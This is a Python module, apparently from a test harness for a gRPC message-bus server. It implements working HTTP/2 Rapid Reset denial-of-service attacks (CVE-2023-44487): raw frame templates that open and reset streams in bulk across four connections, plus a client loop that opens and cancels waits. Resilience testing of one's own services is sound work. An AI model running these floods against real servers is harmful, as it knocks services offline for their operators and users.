"""Streams that are opened and immediately reset (CVE-2023-44487), by raw frames and by a client."""

import asyncio
import struct
from collections.abc import Callable

import grpc.aio
from http2 import (
    CANCEL,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    RST_STREAM,
    Connection,
    frame,
    headers,
    message,
)
from http2 import DATA as DATA_FRAME
from load import spray
from target import BUS, Attack, Outcome, Target

from threadbus.v1.bus_service_pb2 import WaitMessagesRequest
from threadbus.v1.bus_service_pb2_grpc import BusServiceStub
from threadbus.v1.message_pb2 import Cursor

#: Streams per chunk.
_STREAMS = 100


class _Template:
    """The frames that open and reset 100 streams. Only the stream ids change between chunks."""

    def __init__(self, path: str, *, whole: bool) -> None:
        own = frame(HEADERS, END_HEADERS, 0, headers(path))
        if whole:
            own += frame(DATA_FRAME, END_STREAM, 0, message(b""))
        own += frame(RST_STREAM, 0, 0, CANCEL)
        self._bytes = bytearray(own * _STREAMS)
        places, at = [], 0
        while at < len(own):
            places.append(at + 5)
            at += 9 + int.from_bytes(own[at : at + 3], "big")
        self._places = [
            [number * len(own) + place for place in places] for number in range(_STREAMS)
        ]

    def next(self, connection: Connection) -> bytearray:
        """Returns the frames for the next streams of a connection."""
        stream = connection.next_stream
        connection.next_stream += 2 * _STREAMS
        for places in self._places:
            for place in places:
                _NUMBER(self._bytes, place, stream)
            stream += 2
        return self._bytes


_NUMBER = struct.Struct(">I").pack_into


def _rapid(*kinds: tuple[str, bool]) -> Callable[[Target], Outcome]:
    """Open and reset calls over four connections: (path, whether the request is complete)."""

    def run(target: Target) -> Outcome:
        templates = [_Template(path, whole=whole) for path, whole in kinds]
        target.ready()
        streams = 0

        def chunk(connection: Connection) -> bytearray:
            nonlocal streams
            streams += _STREAMS
            return templates[streams // _STREAMS % len(templates)].next(connection)

        # A server may enforce its limits only on clients that have acknowledged its settings.
        dropped = spray(target, chunk, connections=4, acknowledging=2)
        return Outcome(did=f"{streams:,} streams, {dropped:,} connections dropped")

    return run


def _cancelled_waits(target: Target) -> Outcome:
    """Open waits with an ordinary client and cancel them."""

    async def attack() -> int:
        options = [("grpc.use_local_subchannel_pool", 1)]
        channels = [grpc.aio.insecure_channel(target.address, options=options) for _ in range(2)]
        stubs = [BusServiceStub(channel) for channel in channels]
        request = WaitMessagesRequest(threads=[Cursor(thread="innocent")])
        for channel in channels:
            await channel.channel_ready()
        target.ready()
        count = 0
        while target.left() > 0:
            calls = [stub.WaitMessages(request) for stub in stubs for _ in range(50)]
            await asyncio.sleep(0.002)  # if they were cancelled at once, they would never be sent
            for call in calls:
                call.cancel()
            count += len(calls)
        return count

    return Outcome(did=f"{asyncio.run(attack()):,} waits opened and cancelled")


_UNKNOWN, _HEADERS, _WHOLE = (
    ("/a/b", False),
    (f"{BUS}/GetServerInfo", False),
    (
        f"{BUS}/GetServerInfo",
        True,
    ),
)

ATTACKS = [
    Attack(
        name="reset-unknown",
        what="opens and resets streams of an unknown method",
        run=_rapid(_UNKNOWN),
    ),
    Attack(
        name="reset-open",
        what="opens and resets streams of GetServerInfo",
        run=_rapid(_HEADERS),
    ),
    Attack(
        name="reset-whole",
        what="sends whole requests of GetServerInfo, and resets each",
        run=_rapid(_WHOLE),
    ),
    Attack(
        name="reset-required",
        what="all three of them, without a token",
        run=_rapid(_UNKNOWN, _HEADERS, _WHOLE),
        auth="required",
    ),
    Attack(
        name="reset-waits",
        what="a client opens and cancels waits in a loop",
        run=_cancelled_waits,
    ),
]
